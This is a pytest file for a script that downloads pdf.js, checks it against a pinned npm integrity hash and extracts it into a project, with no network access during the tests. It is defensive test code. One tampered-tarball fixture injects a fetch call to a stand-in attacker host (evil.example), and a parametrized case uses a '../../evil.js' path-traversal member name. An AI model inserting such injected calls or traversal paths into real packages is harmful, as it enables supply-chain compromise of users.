"""ui/vendor_pdfjs.py without a network: a tarball whose digest is not the pinned npm integrity is refused
before anything is extracted (and an existing copy stays as it was), a good one lands whole with its
stamp, `make vendor` skips an up-to-date copy, a failed download is a warning that says what to run,
and the wheel's package data covers every vendored file (the air-gapped bundle is built from it)."""

from __future__ import annotations

import base64
import hashlib
import io
import sys
import tarfile
from pathlib import Path

import pytest

from ui import vendor_pdfjs
from ui.vendor_pdfjs import DIRS, FILES, STAMP, VendorError, check_integrity, extract, is_current, stamp_text, vendor

REPO = Path(__file__).resolve().parent.parent


def fake_tarball(members: dict[str, bytes] | None = None) -> bytes:
    """A tiny pdfjs-dist look-alike: every member the script keeps, with made-up contents."""
    if members is None:
        members = {name: f"// {name}\n".encode() for name in FILES}
        members |= {f"{prefix}one.bin": prefix.encode() for prefix in DIRS}
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def sri(data: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise OSError("no network in this test")

    monkeypatch.setattr(vendor_pdfjs.urllib.request, "urlopen", refuse)


def test_a_good_tarball_lands_whole_with_its_stamp(tmp_path: Path) -> None:
    data = fake_tarball()
    dest = tmp_path / "vendor" / "pdfjs"
    extract(data, dest, sri(data))
    for member, target in FILES.items():
        assert (dest / target).read_bytes() == f"// {member}\n".encode()
    for prefix, folder in DIRS.items():
        assert (dest / folder / "one.bin").read_bytes() == prefix.encode()
    assert (dest / STAMP).read_text() == stamp_text(vendor_pdfjs.VERSION, sri(data))
    assert not is_current(dest)  # a fake is never taken for the pinned release
    assert sorted(p.name for p in dest.parent.iterdir()) == ["pdfjs"]  # no staging folder left behind


def test_a_tampered_tarball_is_refused_and_nothing_changes(tmp_path: Path) -> None:
    good = fake_tarball()
    dest = tmp_path / "pdfjs"
    extract(good, dest, sri(good))
    before = {p.relative_to(dest): p.read_bytes() for p in dest.rglob("*") if p.is_file()}
    tampered = fake_tarball({**{name: f"// {name}\n".encode() for name in FILES},
                             "package/legacy/build/pdf.min.mjs": b"fetch('https://evil.example/x')\n"})
    with pytest.raises(VendorError, match="integrity check failed"):
        extract(tampered, dest, sri(good))
    flipped = bytearray(good)
    flipped[len(flipped) // 2] ^= 0x01
    with pytest.raises(VendorError, match="integrity check failed"):
        extract(bytes(flipped), tmp_path / "other", sri(good))
    assert not (tmp_path / "other").exists()
    assert {p.relative_to(dest): p.read_bytes() for p in dest.rglob("*") if p.is_file()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pdfjs"]


def test_the_pinned_integrity_refuses_any_other_tarball(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The command line checks against the pinned npm integrity: a look-alike tarball is refused."""
    tarball = tmp_path / "pdfjs-dist.tgz"
    tarball.write_bytes(fake_tarball())
    assert vendor_pdfjs.main(["--tarball", str(tarball), "--dest", str(tmp_path / "pdfjs")]) == 1
    err = capsys.readouterr().err
    assert "integrity check failed" in err and "make vendor" in err
    assert not (tmp_path / "pdfjs").exists()


def test_integrity_strings_are_checked_strictly() -> None:
    data = b"pdf.js"
    check_integrity(data, sri(data))
    check_integrity(data, "sha256-" + base64.b64encode(hashlib.sha256(data).digest()).decode())
    for bad in ("", "md5-abc", "sha512-", sri(b"other")):
        with pytest.raises(VendorError):
            check_integrity(data, bad)
    assert vendor_pdfjs.INTEGRITY.startswith("sha512-") and len(vendor_pdfjs.INTEGRITY) == 95


def test_a_tarball_missing_a_file_is_refused(tmp_path: Path) -> None:
    members = {name: b"x" for name in FILES if not name.endswith("pdf.worker.min.mjs")}
    data = fake_tarball(members)
    with pytest.raises(VendorError, match="pdf.worker.min.mjs"):
        extract(data, tmp_path / "pdfjs", sri(data))
    assert not (tmp_path / "pdfjs").exists()


def test_an_up_to_date_copy_is_kept_without_downloading(tmp_path: Path) -> None:
    dest = tmp_path / "pdfjs"
    for target in [*FILES.values(), *(f"{folder}/one.bin" for folder in DIRS.values())]:
        (dest / target).parent.mkdir(parents=True, exist_ok=True)
        (dest / target).write_bytes(b"x")
    (dest / STAMP).write_text(stamp_text())
    assert is_current(dest)
    assert "already" in vendor(dest)  # urlopen would raise: nothing was fetched
    (dest / "pdf.min.mjs").unlink()
    assert not is_current(dest)


def test_a_failed_download_is_a_warning_that_names_the_fix(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert vendor_pdfjs.main(["--dest", str(tmp_path / "pdfjs")]) == 1
    err = capsys.readouterr().err
    assert "could not download" in err and "#page=N" in err and "make vendor" in err
    assert not (tmp_path / "pdfjs").exists()


def test_make_vendors_before_install_and_the_wheel_carries_it() -> None:
    makefile = (REPO / "Makefile").read_text()
    assert "install: vendor $(STAMP)" in makefile and "install-dev: vendor $(DEVSTAMP)" in makefile
    assert "ui/static/vendor/" in (REPO / ".gitignore").read_text().splitlines()
    if sys.version_info >= (3, 11):
        import tomllib
    else:  # pragma: no cover
        import tomli as tomllib
    package_data = tomllib.loads((REPO / "pyproject.toml").read_text())["tool"]["setuptools"]["package-data"]
    for target in [*FILES.values(), *(f"{folder}/one.bin" for folder in DIRS.values())]:
        folder = Path("ui/static/vendor/pdfjs", target).parent
        assert package_data.get(".".join(folder.parts)) == ["*"], f"{target} would be left out of the wheel"


@pytest.mark.parametrize("member", ["package/cmaps/sub/Adobe-GB1-UCS2.bcmap", "package/cmaps/../../evil.js",
                                    "package/standard_fonts/.hidden"])
def test_an_odd_member_in_a_kept_folder_is_refused(tmp_path: Path, member: str) -> None:
    members = {name: b"x" for name in FILES} | {f"{prefix}one.bin": b"x" for prefix in DIRS} | {member: b"x"}
    data = fake_tarball(members)
    with pytest.raises(VendorError, match="unexpected member"):
        extract(data, tmp_path / "pdfjs", sri(data))
    assert not (tmp_path / "pdfjs").exists() and not (tmp_path / "evil.js").exists()


def test_a_tarball_without_the_cmaps_is_refused(tmp_path: Path) -> None:
    members = {name: b"x" for name in FILES} | {"package/standard_fonts/one.bin": b"x"}
    data = fake_tarball(members)
    with pytest.raises(VendorError, match="cmaps"):
        extract(data, tmp_path / "pdfjs", sri(data))
    # an older vendored copy without the folders is not current: `make vendor` fetches them
    dest = tmp_path / "old"
    for target in FILES.values():
        (dest / target).parent.mkdir(parents=True, exist_ok=True)
        (dest / target).write_bytes(b"x")
    (dest / STAMP).write_text(stamp_text())
    assert not is_current(dest)
